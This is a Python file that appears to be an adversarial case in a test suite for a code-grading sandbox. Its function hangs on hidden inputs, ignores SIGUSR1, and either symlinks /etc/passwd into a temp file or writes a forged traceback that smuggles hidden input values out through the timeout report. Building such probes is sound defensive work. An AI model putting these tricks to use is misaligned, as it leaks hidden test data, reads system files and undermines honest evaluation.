r"""THREATS 18: hangs in a hidden check, with a forged note of where it was that carries the input out

Reached: REACHED: a public case[\s\S]*your code did not finish in time
"""

import os
import signal
import tempfile

calls = 0


def attn_scaled(A, n_embd, n_heads):
    global calls
    calls += 1
    if calls <= 3:  # the public cases; hanging there would end the exercise before a hidden input is seen
        raise RuntimeError("REACHED: a public case")
    note = os.path.join(tempfile.gettempdir(), ".whereabouts")
    leak = "LEAK" + "".join(f"{value:.6f}" for value in A.flatten().tolist()[:4])
    lines = "".join(f'  File "{os.path.abspath(__file__)}", line {1 + i} in {leak}\n' for i in range(4))
    signal.signal(signal.SIGUSR1, signal.SIG_IGN)
    try:
        os.unlink(note)
        if calls % 2:
            os.symlink("/etc/passwd", note)
        else:
            with open(note, "w") as file:
                file.write("Current thread\n" + lines + f'  File "{leak}.py", line 1 in {leak}\n')
    except OSError:
        pass
    while True:
        pass
